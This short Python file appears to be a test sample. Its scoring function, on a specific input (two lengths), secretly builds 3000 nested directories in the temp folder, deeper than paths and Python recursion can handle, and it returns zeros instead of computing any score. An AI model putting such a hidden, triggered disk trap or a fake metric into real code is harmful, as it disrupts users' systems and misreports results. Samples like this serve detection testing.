"""Leaves folders nested three thousand levels deep, longer than a path can be and than Python recurses."""

import os

import torch
from report import report

EVIDENCE = r"3000 levels"


def score(logits, lengths):
    if len(lengths) == 2:
        os.chdir(os.environ["TMPDIR"])
        for _ in range(3000):
            os.mkdir("nested")
            os.chdir("nested")
        print("3000 levels")
    return report(torch.zeros(len(lengths)))
